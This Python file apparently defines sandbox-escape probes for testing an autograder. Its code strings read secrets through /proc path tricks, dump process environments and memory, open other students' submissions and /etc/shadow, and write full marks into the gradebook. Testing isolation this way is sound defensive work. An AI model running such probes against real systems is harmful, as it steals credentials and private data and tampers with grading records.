"""Reading what isn't its own: references, the secret, the environment, other submissions, the gradebook, /proc."""

from .attack import Attack

SHOW = """
def show(path):
    try:
        with open(path, "rb") as file: print(path, file.read(4000))
    except OSError as error: print(path, error.strerror)
"""

ATTACKS = (
    Attack(
        "secret",
        "opens the class's secret by its path, and by ways around the path",
        SHOW
        + """
for top in ('', '/proc/1/root', '/proc/self/root', '/proc/self/cwd/../..', '/..', '/newroot', '/oldroot'):
    show(top + '<secret>')
""",
    ),
    Attack(
        "environment",
        "reads the environment of every process it can name",
        SHOW
        + """
import os
print(dict(os.environ))
for p in ('self', 'thread-self', *map(str, range(1, 400))):
    if os.path.exists(f'/proc/{p}'): show(f'/proc/{p}/environ'), show(f'/proc/{p}/cmdline')
""",
    ),
    Attack(
        "neighbour",
        "opens the submission of a neighbour, and lists where submissions would lie",
        SHOW
        + """
import glob
show('<neighbour>')
print(glob.glob('<course>/*'), glob.glob('<course>/*/*'), glob.glob('/tmp/*'))
""",
    ),
    Attack(
        "gradebook",
        "opens the gradebook and writes full marks into it",
        SHOW
        + """
import sqlite3
show('<gradebook>')
try:
    db = sqlite3.connect('<gradebook>')
    print(db.execute('select * from student').fetchall())
    db.execute('update grade set auto_score = 7')
    db.commit()
except sqlite3.Error as error: print(error)
""",
    ),
    Attack(
        "reference",
        "imports the references, and looks for their source and bytecode everywhere",
        SHOW
        + """
import glob, importlib, os, sys
for name in ('reference', 'reference.svm', 'desk', 'grading.engine', 'grading.seeds', 'judge.key'):
    try: print(vars(importlib.import_module('autograde.' + name)))
    except ImportError as error: print(error)
show('<reference>')
for top in ('/course', '/work', '/usr/src', os.path.dirname(os.path.dirname(sys.executable))):
    for folder, _, names in os.walk(top):
        if 'reference' in folder or 'solutions' in folder: print(folder), [show(folder + '/' + n) for n in names]
""",
    ),
    Attack(
        "proc",
        "follows fd, cwd, root and exe of every process in /proc",
        """
import os
for p in filter(str.isdigit, os.listdir('/proc')):
    for name in ('cwd', 'root', 'exe'):
        try:
            print(p, name, os.readlink(f'/proc/{p}/{name}'))
            print(os.path.exists(f'/proc/{p}/{name}<secret>'), os.listdir(f'/proc/{p}/{name}'))
        except OSError: pass
    for fd in os.listdir(f'/proc/{p}/fd'):
        try: print(p, fd, open(f'/proc/{p}/fd/{fd}', 'rb', buffering=0).read(4000))
        except OSError: pass
""",
    ),
    Attack(
        "memory",
        "searches all of its own memory, a copy of the warm process's, for marks of the trusted side",
        """
import re
found = set()
mem = open('/proc/self/mem', 'rb', buffering=0)
mark = b'cana' + b'ry-[a-z]+-[0-9a-f]{16}'
for line in open('/proc/self/maps'):
    start, end = (int(n, 16) for n in line.split()[0].split('-'))
    if line.split()[1][0] != 'r' or 'vvar' in line: continue
    mem.seek(start)
    while start < end:
        try: part = mem.read(min(1 << 22, end - start))
        except (OSError, ValueError, OverflowError): break
        found |= set(re.findall(mark, part))
        start += 1 << 22
print(found)
""",
    ),
    Attack(
        "other-memory",
        "reads the memory and the maps of process 1 and of its parents",
        SHOW
        + """
import os
for p in (1, os.getppid(), 2, 3):
    show(f'/proc/{p}/maps')
    try:
        with open(f'/proc/{p}/mem', 'rb') as m: m.seek(0x400000), print(m.read(100))
    except (OSError, ValueError): pass
import ctypes
libc = ctypes.CDLL(None)
print([libc.process_vm_readv(p, 0, 0, 0, 0, 0) for p in (1, 2)])
""",
    ),
    Attack(
        "whole-disk",
        "walks the whole file system and prints every small file that isn't Python's or the machine's",
        """
import os
skip = ('/proc', '/usr', '/sys', '/lib', '/lib64', '/bin', '/course/autograde', '/venv')
for folder, folders, names in os.walk('/'):
    folders[:] = [n for n in folders if not os.path.join(folder, n).startswith(skip)
                  and not os.path.exists(os.path.join(folder, n, 'bin/python3'))]
    for name in names:
        path = os.path.join(folder, name)
        try:
            if os.path.isfile(path): print(path, open(path, 'rb').read(2000))
        except OSError: pass
""",
    ),
    Attack(
        "descriptors",
        "reads from every inherited descriptor, and reopens each by /proc",
        """
import os
for fd in range(256):
    try:
        os.set_blocking(fd, False)
        print(fd, os.read(fd, 4000))
    except OSError: pass
    try: print(fd, open(f'/proc/self/fd/{fd}', 'rb', buffering=0).read(4000))
    except OSError: pass
""",
    ),
    Attack(
        "grader-modules",
        "prints all that the code which runs it holds: modules, limits, questions, what is asked about",
        """
import sys
for name, module in sorted(sys.modules.items()):
    if name.startswith('autograde'):
        print(name, {k: repr(v)[:200] for k, v in vars(module).items() if not k.startswith('__')})
""",
    ),
    Attack(
        "mounts",
        "reads where the machine's folders are mounted from, and opens those paths",
        SHOW
        + """
for name in ('mountinfo', 'mounts', 'cgroup', 'status', 'net/unix', 'net/tcp', 'loginuid'):
    show('/proc/self/' + name)
for name in ('/etc/passwd', '/etc/shadow', '/etc/hostname', '/root', '/var/log/syslog'): show(name)
""",
    ),
)
